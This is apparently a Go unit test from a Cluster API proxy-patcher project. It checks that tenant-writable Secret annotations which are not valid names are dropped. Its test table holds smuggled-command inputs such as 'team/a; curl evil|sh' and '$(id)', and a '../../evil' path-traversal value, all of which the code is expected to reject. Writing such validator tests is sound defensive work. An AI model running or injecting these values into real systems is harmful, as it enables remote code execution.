package reported_test

import (
	"strings"
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	clusterv1 "sigs.k8s.io/cluster-api/api/core/v1beta2"

	"github.com/capi-proxy-patcher/capi-proxy-patcher/internal/core/contract"
	"github.com/capi-proxy-patcher/capi-proxy-patcher/internal/reported"
)

// TestRowOf_DropsAnnotationsThatAreNoNames has the annotations of a generated Secret, which a tenant can write.
func TestRowOf_DropsAnnotationsThatAreNoNames(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct{ source, warnings, named, secret, warning string }{
		"as the manager writes them":  {"team/http-proxy", "no-nodes,bad-entry", "", "team/http-proxy", "no-nodes"},
		"a Secret without namespace":  {"http-proxy", "", "", "http-proxy", ""},
		"a name with dots":            {"team/http.proxy", "", "", "team/http.proxy", ""},
		"nothing":                     {"", "", "", "", ""},
		"a Secret that is named":      {"", "", "mine", "team/mine", ""},
		"a command":                   {"team/a; curl evil|sh", "$(id)", "", "", ""},
		"more lines":                  {"team/a\nok", "no-nodes\nok", "", "", ""},
		"three parts":                 {"a/b/c", "", "", "", ""},
		"an empty name":               {"team/", "", "", "", ""},
		"an empty namespace":          {"/a", "", "", "", ""},
		"too long":                    {"team/" + strings.Repeat("a", 254), strings.Repeat("a", 64), "", "", ""},
		"a link to somewhere else":    {"", "../../evil#no-nodes", "", "", ""},
		"a Secret that cannot be one": {"", "", "my secret", "", ""},
	} {
		cluster := &clusterv1.Cluster{ObjectMeta: metav1.ObjectMeta{Namespace: "team", Name: "prod"}}
		if test.named != "" {
			cluster.Annotations = map[string]string{contract.AnnotationSecret: test.named}
		}
		row := reported.RowOf(cluster, map[string]string{
			contract.AnnotationSource: test.source, contract.AnnotationWarnings: test.warnings,
		})
		if row.Secret != test.secret || row.Warning != test.warning {
			t.Errorf("%s: Secret %q, warning %q", name, row.Secret, row.Warning)
		}
	}
}
